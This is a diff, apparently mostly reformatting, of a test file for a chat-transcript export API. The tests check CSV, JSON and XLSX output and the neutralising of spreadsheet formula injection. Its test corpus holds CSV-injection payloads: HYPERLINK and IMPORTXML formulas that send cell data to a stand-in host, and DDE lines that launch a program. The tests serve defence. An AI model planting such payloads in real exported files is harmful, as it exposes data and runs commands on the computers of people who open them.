@@ -1,7 +1,7 @@
 import { SELF } from "cloudflare:test";
+import { env } from "cloudflare:workers";
 import { describe, expect, it } from "vitest";
 import * as XLSX from "xlsx";
-import { env } from "cloudflare:workers";
 import { allMatching } from "../src/conversation/search";
 import { openDb } from "../src/db/client";
 import { exportResponse, TABLE_COLUMNS } from "../src/privacy/export";
@@ -12,7 +12,7 @@ import { seedTranscript } from "./helpers/transcripts";
 /** Payloads that a spreadsheet would run as formulas or DDE, from OWASP's CSV-injection page and others. */
 const INJECTION_CORPUS = [
   "=1+1",
-  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
   "+1+1",
   "-2+3",
   "@SUM(1,1)",
@@ -22,7 +22,7 @@ const INJECTION_CORPUS = [
   "=cmd|' /C calc'!A0",
   "-cmd|' /C calc'!A0",
   "@cmd|' /C calc'!A0",
-  "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
+  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
 ];
 
 /**
@@ -47,7 +47,7 @@ const HIDDEN_TRIGGERS = [
   "x;\uFEFF=1+1",
   "first line\n=1+1",
   "first line\r\n@SUM(1,1)",
-  "a;\"=1+1;b",
+  'a;"=1+1;b',
   "a;;;=1+1",
 ];
 
@@ -62,7 +62,11 @@ const withoutApostrophes = (value: string) => value.replace(/'(?=[=+\-@])/g, "")
 describe("POST /api/v1/conversations/export", () => {
   it("exports one chat as RFC 4180 CSV in UTF-8 with every message", async () => {
     const account = await seedAccount();
-    const id = await seedTranscript(account, { name: "Zoë \"Z\" Müller", email: "zoe@example.org", bodies: ["Grüße, line one\nline two", "Answer, with \"quotes\""] });
+    const id = await seedTranscript(account, {
+      name: 'Zoë "Z" Müller',
+      email: "zoe@example.org",
+      bodies: ["Grüße, line one\nline two", 'Answer, with "quotes"'],
+    });
     const res = await exportAs(await login(account.adminEmail), { format: "csv", conversationIds: [id] });
     expect(res.status).toBe(200);
     expect(res.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
@@ -76,8 +80,8 @@ describe("POST /api/v1/conversations/export", () => {
     expect(rows[1]![TABLE_COLUMNS.indexOf("seq")]).toBe("1");
     expect(rows[1]![TABLE_COLUMNS.indexOf("rating")]).toBe("");
     const body = TABLE_COLUMNS.indexOf("body");
-    expect(rows.slice(1).map((r) => r[body])).toEqual(["Grüße, line one\nline two", "Answer, with \"quotes\""]);
-    expect(rows[1]![TABLE_COLUMNS.indexOf("visitor_name")]).toBe("Zoë \"Z\" Müller");
+    expect(rows.slice(1).map((r) => r[body])).toEqual(["Grüße, line one\nline two", 'Answer, with "quotes"']);
+    expect(rows[1]![TABLE_COLUMNS.indexOf("visitor_name")]).toBe('Zoë "Z" Müller');
     expect(rows[1]![TABLE_COLUMNS.indexOf("visitor_email")]).toBe("zoe@example.org");
   });
 
@@ -85,18 +89,29 @@ describe("POST /api/v1/conversations/export", () => {
     const account = await seedAccount();
     const id = await seedTranscript(account, { name: "Vera", email: "vera@example.org", bodies: ["one", "two", "three"] });
     const res = await exportAs(await login(account.adminEmail), { format: "json", conversationIds: [id] });
-    const data = (await res.json()) as { format: string; conversations: { id: string; visitorEmail: string; messages: { seq: number; body: string }[] }[] };
+    const data = (await res.json()) as {
+      format: string;
+      conversations: { id: string; visitorEmail: string; messages: { seq: number; body: string }[] }[];
+    };
     expect(data.format).toBe("confide-transcripts");
     expect(data.conversations).toHaveLength(1);
     expect(data.conversations[0]).toMatchObject({ id, visitorEmail: "vera@example.org" });
-    expect(data.conversations[0]!.messages.map((m) => [m.seq, m.body])).toEqual([[1, "one"], [2, "two"], [3, "three"]]);
+    expect(data.conversations[0]!.messages.map((m) => [m.seq, m.body])).toEqual([
+      [1, "one"],
+      [2, "two"],
+      [3, "three"],
+    ]);
   });
 
   it("exports 1,000 chats in each format, everything a filter matches", async () => {
     const account = await seedAccount();
     const ids = new Set<string>();
     for (let batch = 0; batch < 20; batch++) {
-      const created = await Promise.all(Array.from({ length: 50 }, (_, i) => seedTranscript(account, { name: `Visitor ${batch * 50 + i}`, bodies: [`question ${batch * 50 + i}`, "answer"] })));
+      const created = await Promise.all(
+        Array.from({ length: 50 }, (_, i) =>
+          seedTranscript(account, { name: `Visitor ${batch * 50 + i}`, bodies: [`question ${batch * 50 + i}`, "answer"] }),
+        ),
+      );
       for (const id of created) ids.add(id);
     }
     const cookie = await login(account.adminEmail);
@@ -106,11 +121,15 @@ describe("POST /api/v1/conversations/export", () => {
     expect(csvRows).toHaveLength(1 + 2_000);
     expect(new Set(csvRows.slice(1).map((r) => r[conversationColumn]))).toEqual(ids);
 
-    const json = (await (await exportAs(cookie, { format: "json", filter: {} })).json()) as { conversations: { id: string; messages: unknown[] }[] };
+    const json = (await (await exportAs(cookie, { format: "json", filter: {} })).json()) as {
+      conversations: { id: string; messages: unknown[] }[];
+    };
     expect(new Set(json.conversations.map((c) => c.id))).toEqual(ids);
     expect(json.conversations.every((c) => c.messages.length === 2)).toBe(true);
 
-    const workbook = XLSX.read(new Uint8Array(await (await exportAs(cookie, { format: "xlsx", filter: {} })).arrayBuffer()), { type: "array" });
+    const workbook = XLSX.read(new Uint8Array(await (await exportAs(cookie, { format: "xlsx", filter: {} })).arrayBuffer()), {
+      type: "array",
+    });
     const sheet = XLSX.utils.sheet_to_json<string[]>(workbook.Sheets.Transcripts!, { header: 1, raw: false });
     expect(sheet).toHaveLength(1 + 2_000);
     expect(new Set(sheet.slice(1).map((r) => r[conversationColumn]))).toEqual(ids);
@@ -138,7 +157,7 @@ describe("POST /api/v1/conversations/export", () => {
   it("neutralises formula-injection payloads in every CSV field, the apostrophe being all that changes", async () => {
     const account = await seedAccount();
     const payloads = [...INJECTION_CORPUS, ...HIDDEN_TRIGGERS];
-    const id = await seedTranscript(account, { name: "=HYPERLINK(\"http://evil.example\")", bodies: payloads });
+    const id = await seedTranscript(account, { name: '=HYPERLINK("http://evil.example")', bodies: payloads });
     const cookie = await login(account.adminEmail);
     const body = TABLE_COLUMNS.indexOf("body");
     for (const separator of [",", ";"] as const) {
@@ -152,9 +171,14 @@ describe("POST /api/v1/conversations/export", () => {
         expect(withoutApostrophes(row[body]!), label).toBe(payload);
         expect(row[body], label).not.toMatch(/^[\t\r]/);
         for (const piece of row[body]!.split(SPLITTERS)) expect(piece, label).not.toMatch(LIVE_PIECE);
-        expect(row[TABLE_COLUMNS.indexOf("visitor_name")]).toBe("'=HYPERLINK(\"http://evil.example\")");
+        expect(row[TABLE_COLUMNS.indexOf("visitor_name")]).toBe('\'=HYPERLINK("http://evil.example")');
       });
-      expect(rows.slice(0, 4).map((r) => r[body])).toEqual(["'=1+1", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+1+1", "'-2+3"]);
+      expect(rows.slice(0, 4).map((r) => r[body])).toEqual([
+        "'=1+1",
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "'+1+1",
+        "'-2+3",
+      ]);
       expect(rows[payloads.indexOf("Mallory;=1+1")]![body]).toBe("Mallory;'=1+1");
       expect(rows[payloads.indexOf("\u00A0=1+1")]![body]).toBe("\u00A0'=1+1");
     }
@@ -162,10 +186,16 @@ describe("POST /api/v1/conversations/export", () => {
 
   it("leaves no live formula for a reader that splits the file's bytes on ',', ';', tab or line breaks, ignoring quotes", async () => {
     const account = await seedAccount();
-    const id = await seedTranscript(account, { name: "Mallory;=1+1", email: "mallory@example.org", bodies: [...INJECTION_CORPUS, ...HIDDEN_TRIGGERS] });
+    const id = await seedTranscript(account, {
+      name: "Mallory;=1+1",
+      email: "mallory@example.org",
+      bodies: [...INJECTION_CORPUS, ...HIDDEN_TRIGGERS],
+    });
     const cookie = await login(account.adminEmail);
     for (const separator of [",", ";"] as const) {
-      const text = await csvText(await exportAs(cookie, { format: "csv", ...(separator === ";" ? { separator } : {}), conversationIds: [id] }));
+      const text = await csvText(
+        await exportAs(cookie, { format: "csv", ...(separator === ";" ? { separator } : {}), conversationIds: [id] }),
+      );
       // What German Excel does with a ","-file (it splits on ";"), or any reader that lost the quoting.
       const live = text.split(SPLITTERS).filter((piece) => LIVE_PIECE.test(piece));
       expect(live, separator).toEqual([]);
@@ -174,7 +204,11 @@ describe("POST /api/v1/conversations/export", () => {
 
   it("writes CSV with ';' between fields when asked, for spreadsheets in a European locale", async () => {
     const account = await seedAccount();
-    const id = await seedTranscript(account, { name: "Zoë; \"Z\"", email: "zoe@example.org", bodies: ["Preis: 3,50 €; danke", "two\nlines, one; field"] });
+    const id = await seedTranscript(account, {
+      name: 'Zoë; "Z"',
+      email: "zoe@example.org",
+      bodies: ["Preis: 3,50 €; danke", "two\nlines, one; field"],
+    });
     const cookie = await login(account.adminEmail);
     const res = await exportAs(cookie, { format: "csv", separator: ";", conversationIds: [id] });
     expect(res.status).toBe(200);
@@ -184,7 +218,7 @@ describe("POST /api/v1/conversations/export", () => {
     const rows = parseCsv(text, ";", true);
     expect(rows.map((r) => r.length)).toEqual([16, 16, 16]);
     expect(rows.slice(1).map((r) => r[TABLE_COLUMNS.indexOf("body")])).toEqual(["Preis: 3,50 €; danke", "two\nlines, one; field"]);
-    expect(rows[1]![TABLE_COLUMNS.indexOf("visitor_name")]).toBe("Zoë; \"Z\"");
+    expect(rows[1]![TABLE_COLUMNS.indexOf("visitor_name")]).toBe('Zoë; "Z"');
 
     // The data-subject export takes the same choice.
     const subject = await exportAs(cookie, { email: "zoe@example.org", format: "csv", separator: ";" }, "/api/v1/data-subject/export");
@@ -217,7 +251,12 @@ describe("POST /api/v1/conversations/export", () => {
   it("rejects an unknown format, a missing or double selection and a bad date with 400", async () => {
     const account = await seedAccount();
     const cookie = await login(account.adminEmail);
-    for (const body of [{ format: "pdf", filter: {} }, { format: "csv" }, { format: "csv", filter: {}, conversationIds: ["a".repeat(64)] }, { format: "csv", filter: { from: "yesterday" } }]) {
+    for (const body of [
+      { format: "pdf", filter: {} },
+      { format: "csv" },
+      { format: "csv", filter: {}, conversationIds: ["a".repeat(64)] },
+      { format: "csv", filter: { from: "yesterday" } },
+    ]) {
       const res = await exportAs(cookie, body);
       expect(res.status, JSON.stringify(body)).toBe(400);
     }
@@ -226,7 +265,12 @@ describe("POST /api/v1/conversations/export", () => {
 
 describe("GET /api/v1/openapi.json", () => {
   it("describes the CSV separator of both exports", async () => {
-    const doc = (await (await SELF.fetch(`${BASE}/api/v1/openapi.json`)).json()) as { paths: Record<string, { post: { requestBody: { content: Record<string, { schema: { properties: Record<string, { enum?: string[] }> } }> } } }> };
+    const doc = (await (await SELF.fetch(`${BASE}/api/v1/openapi.json`)).json()) as {
+      paths: Record<
+        string,
+        { post: { requestBody: { content: Record<string, { schema: { properties: Record<string, { enum?: string[] }> } }> } } }
+      >;
+    };
     for (const path of ["/conversations/export", "/data-subject/export"]) {
       const schema = doc.paths[path]!.post.requestBody.content["application/json"]!.schema;
       expect(schema.properties.separator?.enum, path).toEqual([",", ";"]);
